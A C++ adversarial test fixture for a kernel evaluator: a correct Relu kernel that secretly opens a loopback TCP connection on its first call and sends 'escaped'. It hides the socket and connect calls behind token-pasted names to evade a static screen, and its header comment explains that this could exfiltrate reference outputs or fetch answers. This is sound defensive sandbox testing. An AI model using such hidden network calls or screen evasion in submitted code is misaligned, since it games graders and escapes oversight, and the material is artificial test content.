// Adversarial fixture (attack class: socket): the evaluator must reject this kernel.
//
// Attack: on its first call the kernel opens a TCP connection to 127.0.0.1:47613 and sends
// "escaped\n" (a kernel that reaches the network can exfiltrate the reference outputs or fetch
// answers); a closed port or an unreachable network fails at once on the loopback address. It then
// computes Relu correctly, so the verdicts look clean.
// Evidence: a listener on 127.0.0.1:47613 (the test starts one) receives "escaped". No marker file.
// Success for the attacker: all stages pass and the listener got the line.
// Blocked: socket/connect fail (no network in the sandbox), or the runner is killed for trying.
// Screen evasion: socket/connect declared and called under token-pasted names; struct sockaddr_in
// spelled by hand (no <sys/socket.h>, no <netinet/in.h>).
#include <cstdint>
#include <cstring>
#include <vector>
#include "backend/cpu/CPUBackend.hpp"

#define MK_CAT(a, b) a##b

extern "C" int MK_CAT(sock, et)(int, int, int);
extern "C" int MK_CAT(con, nect)(int, const void*, unsigned int);
extern "C" long send(int, const void*, unsigned long, int);
extern "C" int close(int);

namespace {
void phoneHome() {
    static bool done = false;  // once per process
    if (done) return;
    done = true;
    struct {
        uint16_t family;
        uint16_t port;  // network byte order
        uint8_t addr[4];
        uint8_t zero[8];
    } peer = {2 /* AF_INET */, (uint16_t)(47613 >> 8 | (47613 & 0xff) << 8), {127, 0, 0, 1}, {0}};
    int fd = MK_CAT(sock, et)(2 /* AF_INET */, 1 /* SOCK_STREAM */, 0);
    if (fd < 0) return;
    if (MK_CAT(con, nect)(fd, &peer, sizeof peer) == 0) send(fd, "escaped\n", 8, 0x4000 /* MSG_NOSIGNAL */);
    close(fd);
}
} // namespace

namespace MNN {
class AttackSocketRelu : public Execution {
public:
    using Execution::Execution;
    ErrorCode onExecute(const std::vector<Tensor*>& inputs, const std::vector<Tensor*>& outputs) override {
        phoneHome();
        const float* x = inputs[0]->host<float>();
        float* y = outputs[0]->host<float>();
        for (int i = 0, n = inputs[0]->elementSize(); i < n; ++i) y[i] = x[i] > 0.0f ? x[i] : 0.0f;
        return NO_ERROR;
    }
};
struct AttackSocketReluCreator : CPUBackend::Creator {
    Execution* onCreate(const std::vector<Tensor*>&, const std::vector<Tensor*>&, const MNN::Op*,
                        Backend* backend) const override {
        return new AttackSocketRelu(backend);
    }
};
REGISTER_CPU_OP_CREATOR(AttackSocketReluCreator, OpType_Relu);
} // namespace MNN
